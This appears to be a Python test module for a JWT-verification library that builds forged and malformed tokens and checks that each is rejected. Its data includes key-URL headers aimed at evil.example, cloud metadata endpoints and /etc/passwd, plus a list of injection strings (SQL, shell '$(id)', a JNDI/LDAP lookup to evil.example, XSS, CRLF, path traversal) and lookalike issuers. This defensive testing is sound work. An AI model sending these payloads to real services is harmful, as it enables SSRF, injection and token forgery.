"""Hostile tokens that want another key, issuer or algorithm: classes AT6 to AT11, and AT26 to AT34."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from cryptography.hazmat.primitives import hashes
from tests.unit.attacks import Attack, Attacks
from tests.unit.material import DIGESTS, certificate, pkcs1, pss, resigned, unsigned, with_claims, with_header, x5c

from keyturn import DisallowedAlgorithmError, InvalidIssuerError, InvalidSignatureError, MalformedTokenError, UnknownKeyError
from keyturn.testing import FakeIssuer
from keyturn.testing.keys import base64url, stranger_key


def swapped_within_family(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT6: a good signature under another algorithm of the family."""
    issuer.publish("bound", "RS256")
    issuer.publish("free", "RS256", alg=None)
    bound, free = (issuer._find(kid).private._key for kid in ("bound", "free"))  # type: ignore[attr-defined]
    for algorithm in ("RS384", "RS512", "PS256", "PS384", "PS512"):
        sign = pss if algorithm.startswith("PS") else pkcs1
        for digest in DIGESTS.values():
            signed = resigned(unsigned(issuer, algorithm, "bound"), bound, lambda key, data, sign=sign, digest=digest: sign(key, data, digest))
            yield Attack(f"{algorithm}, {digest.name}, entry fixed to RS256", signed, UnknownKeyError, cheap=False)
    for algorithm in DIGESTS:
        yield Attack(
            f"RS256 sent as PS{algorithm}", resigned(unsigned(issuer, f"PS{algorithm}", "free"), free, pkcs1), InvalidSignatureError, cheap=False
        )
        if algorithm != "256":
            yield Attack(
                f"RS256 sent as RS{algorithm}",
                resigned(unsigned(issuer, f"RS{algorithm}", "free"), free, pkcs1),
                InvalidSignatureError,
                cheap=False,
            )
        good = resigned(unsigned(issuer, f"PS{algorithm}", "free"), free, lambda key, data, bits=algorithm: pss(key, data, DIGESTS[bits]))
        yield Attack(f"PS{algorithm} under an entry without alg", good, None, cheap=False)
    for algorithm in ("ES384", "ES512"):
        yield Attack(f"ES256 sent as {algorithm}", with_header(issuer, alg=algorithm), UnknownKeyError, cheap=False)


def against_the_entry(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT7: the entry names another algorithm of its type, and the signature is right for the header."""
    for alg in ("RS512", "PS256"):
        issuer.publish(alg, "RS256", alg=alg)
        yield Attack(f"RS256, the entry says {alg}", issuer.token(key=alg), UnknownKeyError, cheap=False, says=f"is for {alg}")


def outside_the_list(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT8: a good signature by an algorithm that this caller does not allow."""
    for allowed in ("RS256", "ES384", "EdDSA"):
        yield Attack(f"only {allowed}", issuer.token(), DisallowedAlgorithmError, settings={"algorithms": [allowed]}, says="setting: algorithms")
    for algorithm in (
        "es256",
        "ES256 ",
        "ES256K",
        "HS256",
        "RS1",
        "ESP256",
        "dir",
        "A128KW",
        "ML-DSA-44",
        "ES256,none",
        "\u0415S256",
        "EDDSA",
        "ed25519",
        "x" * 5_000,
    ):
        yield Attack(f"alg {algorithm[:20]!r}", with_header(issuer, alg=algorithm), DisallowedAlgorithmError)


def embedded_key(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT9: the token brings its own key."""
    for algorithm in ("ES256", "RS256", "Ed25519", "PS256"):
        theirs = stranger_key(algorithm)
        jwk = theirs.public_members()
        # Where no published key is of the type, nothing fits, whatever the kid.
        fitting = InvalidSignatureError if algorithm == "ES256" else UnknownKeyError
        for kid, error in (("k1", fitting), ("theirs", UnknownKeyError), (None, fitting)):
            token = resigned(unsigned(issuer, algorithm, kid, jwk={**jwk, "kid": kid or ""}), theirs, lambda key, data: key.sign(data))
            yield Attack(f"{algorithm}, kid {kid}", token, error, cheap=False)
    oct_key = {"kty": "oct", "k": "AAAA", "kid": "k1"}
    yield Attack("oct with HMAC", unsigned(issuer, "HS256", "k1", jwk=oct_key), DisallowedAlgorithmError)
    for value in (oct_key, None, 1, "text", [], {}, {"kty": "EC"}):
        yield Attack(f"a good token with jwk {value!r}", with_header(issuer, jwk=value), None, cheap=False)


_PLACES = (
    "https://evil.example/jwks.json",
    "http://169.254.169.254/latest/meta-data/",
    "http://[fd00:ec2::254]/latest",
    "file:///etc/passwd",
    "data:application/json,{}",
    "https://issuer.test@evil.example/jwks.json",
    "https://issuer.test/jwks.json",
    "https://issuer.test/.well-known/openid-configuration",
    "//evil.example",
    "gopher://127.0.0.1:6379/_",
    "",
)


def named_place(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT10: the token says where to fetch a key, or a certificate."""
    for place in (*_PLACES, None, 1, [], {}):
        for parameter in ("jku", "x5u"):
            yield Attack(f"{parameter} {place!r}, forged", issuer.forge(headers={parameter: place}), InvalidSignatureError, cheap=False)
            yield Attack(f"{parameter} {place!r}, unknown kid", issuer.forge(key="u", headers={parameter: place}), UnknownKeyError, cheap=False)
            yield Attack(f"{parameter} {place!r}, good", with_header(issuer, **{parameter: place}), None, cheap=False)


def named_certificate(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT11: certificates and their thumbprints in the header; a thumbprint narrows and never lets in."""
    published, other, unknown = (base64url(bytes([fill]) * 20) for fill in (1, 2, 3))
    issuer.publish("a", x5t=published)
    issuer.publish("b", x5t=other)
    issuer.promote("a")
    no_kid: dict[str, Any] = {"kid": None}
    yield Attack("thumbprint of the signer", issuer.token(headers={**no_kid, "x5t": published}), None, cheap=False)
    yield Attack("thumbprint of another", issuer.token(headers={**no_kid, "x5t": other}), InvalidSignatureError, cheap=False)
    yield Attack("thumbprint of nobody", issuer.token(headers={**no_kid, "x5t": unknown}), UnknownKeyError, cheap=False)
    yield Attack("thumbprint of a good key, forged", issuer.forge(headers={**no_kid, "x5t": published}), InvalidSignatureError, cheap=False)
    yield Attack("thumbprint that nobody publishes", issuer.token(headers={**no_kid, "x5t#S256": unknown}), None, cheap=False)
    yield Attack("the kid decides", issuer.token(headers={"x5t": other}), None, cheap=False)
    yield Attack("kid of nobody beside a good thumbprint", issuer.token(headers={"kid": "u", "x5t": published}), UnknownKeyError, cheap=False)
    theirs = stranger_key("ES256")._key  # type: ignore[attr-defined]
    chain = x5c(certificate(theirs, digest=hashes.SHA256()))
    for value in (chain, [], "text", None, ["!"], [chain]):
        yield Attack("a chain, forged", issuer.forge(headers={"x5c": value}), InvalidSignatureError, cheap=False)
        yield Attack("a chain, good", with_header(issuer, x5c=value, kid="a"), None, cheap=False)
    for parameter in ("x5t", "x5t#S256", "typ"):
        for value in (1, [published], {}, True, None):
            yield Attack(f"{parameter} {value!r}", with_header(issuer, **{parameter: value}), MalformedTokenError)


_INJECTIONS = (
    "../../../dev/null", "/etc/passwd", "..\\..\\windows\\win.ini", "k1' OR '1'='1", "'; DROP TABLE keys;--", '{"$ne":null}', "*)(uid=*))(|(uid=*",
    "k1|sleep 5", "$(id)", "`id`", "{{7*7}}", "${jndi:ldap://evil.example/a}", "%24%7Bjndi%7D", "k1\r\nSet-Cookie: a=b", "\x1b[2J\x1b[31m", "k1\0",
    "\u202ek1",
    "<script>alert(1)</script>", "https://evil.example/jwks", "__proto__", "constructor", "", " ", "%s%s%n", "{0}", "\\", '"', "k1\n", "x" * 256,
)  # fmt: skip


def injected_kid(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT26: a kid that would do harm elsewhere is a kid like any other."""
    for kid in _INJECTIONS:
        yield Attack(f"kid {kid[:30]!r}", issuer.forge(key=kid), UnknownKeyError, cheap=False)


def mistyped_kid(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT27: a kid that is no string, or over 256 characters."""
    for kid in (None, 0, 1, 1.5, True, False, [], ["k1"], {}, {"kid": "k1"}, "k" * 257, "\u20ac" * 257, "k1" * 2_000):
        yield Attack(f"kid {str(kid)[:20]!r}", with_header(issuer, kid=kid), MalformedTokenError)


def similar_kid(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT28: kids are compared exactly."""
    issuer.publish("caf\u00e9")
    for kid in (
        "K1",
        "k1 ",
        " k1",
        "k",
        "k11",
        "k1\t",
        "k1\u200b",
        "\uff4b1",
        "k\u0661",
        "k\u00b9",
        "\u212a1",
        "cafe\u0301",
        "CAF\u00c9",
        "caf\u00e9 ",
        "cafe",
    ):
        yield Attack(f"kid {kid!r}", issuer.token(headers={"kid": kid}), UnknownKeyError, cheap=False)


def swapped_kid(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT29: signed with one held key, named after another."""
    issuer.publish("k2")
    yield Attack("k1 as k2", issuer.token(key="k1", headers={"kid": "k2"}), InvalidSignatureError, cheap=False)
    yield Attack("k2 as k1", issuer.token(key="k2", headers={"kid": "k1"}), InvalidSignatureError, cheap=False)


def unknown_kid(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT30: a good signature of a held key under a kid of nobody; nothing falls through."""
    issuer.add_entry({**issuer._find("k1").private.public_members()})
    for kid in ("k2", "", "unknown", "0"):
        yield Attack(f"kid {kid!r}", issuer.token(headers={"kid": kid}), UnknownKeyError, cheap=False)
    yield Attack("no kid at all", issuer.token(headers={"kid": None}), None, cheap=False)


def foreign_issuer(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT32 and AT34: issuers that are not configured, and those that look like the one that is."""
    name = issuer.issuer
    lookalikes = [
        f"{name}/",
        f"{name}//",
        f"{name}.evil.example",
        f"{name}@evil.example",
        f"{name}:443",
        f"{name} ",
        f" {name}",
        f"{name}\n",
        f"{name}\0",
        f"{name}#",
        f"{name}?",
    ]
    lookalikes += [
        name.upper(),
        name.title(),
        name.replace("https", "http"),
        name.replace("https://", ""),
        name[:-1],
        name[1:],
        f"{name}/tenant",
        "https://evil.example",
    ]
    lookalikes += [
        "https://user@issuer.test",
        "https://xn--issuer-.test",
        "https://\u0456ssuer.test",
        "https://issuer%2Etest",
        "https://issuer.test.",
        "https://issuer.test/%2e",
    ]
    lookalikes += ["https://issuer.test/{tenantid}", "{tenantid}", "*", ".*", "https://*", "", "null"]
    for lookalike in [*lookalikes, *(f"https://tenant-{number}.example" for number in range(200))]:
        yield Attack(f"iss {lookalike!r}", issuer.token(iss=lookalike), InvalidIssuerError, says="setting: issuer")
    for value in (1, True, [], [name], {}, {"iss": name}, 0, False, [[name]]):
        yield Attack(f"iss {value!r}", with_claims(issuer, iss=value), InvalidIssuerError)


def foreign_key_scope(issuer: FakeIssuer) -> Iterator[Attack]:
    """AT33: the entry of the signing key says that it is another issuer's alone."""
    for number, scope in enumerate(("https://other.test", f"{issuer.issuer}/", "https://issuer.test/{tenantid}", "")):
        issuer.publish(f"scoped{number}", issuer=scope)
        yield Attack(f"key of {scope!r}", issuer.token(key=f"scoped{number}"), UnknownKeyError, cheap=False, static=InvalidIssuerError)
    issuer.publish("ours", issuer=issuer.issuer)
    yield Attack("key of this issuer", issuer.token(key="ours"), None, cheap=False)


TRUST: dict[str, Attacks] = {
    "AT6": swapped_within_family,
    "AT7": against_the_entry,
    "AT8": outside_the_list,
    "AT9": embedded_key,
    "AT10": named_place,
    "AT11": named_certificate,
    "AT26": injected_kid,
    "AT27": mistyped_kid,
    "AT28": similar_kid,
    "AT29": swapped_kid,
    "AT30": unknown_kid,
    "AT32, AT34": foreign_issuer,
    "AT33": foreign_key_scope,
}
"""The classes of this file by name."""
